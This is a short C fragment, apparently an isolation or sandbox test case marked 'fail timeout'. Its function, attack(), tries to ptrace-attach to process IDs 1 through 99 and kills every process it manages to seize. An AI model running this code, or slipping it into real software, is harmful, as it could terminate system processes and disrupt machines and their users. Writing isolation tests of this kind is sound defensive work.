// status: fail timeout
#include <stdio.h>
#include <sys/ptrace.h>
#include <sys/wait.h>
#include <unistd.h>

static void attack(void) {
  for (int pid = 1; pid < 100; pid++)
    if (pid != getpid() && ptrace(PTRACE_ATTACH, pid, NULL, NULL) == 0) {
      printf("got hold of process %d\n", pid);
      ptrace(PTRACE_KILL, pid, NULL, NULL);
    }
}
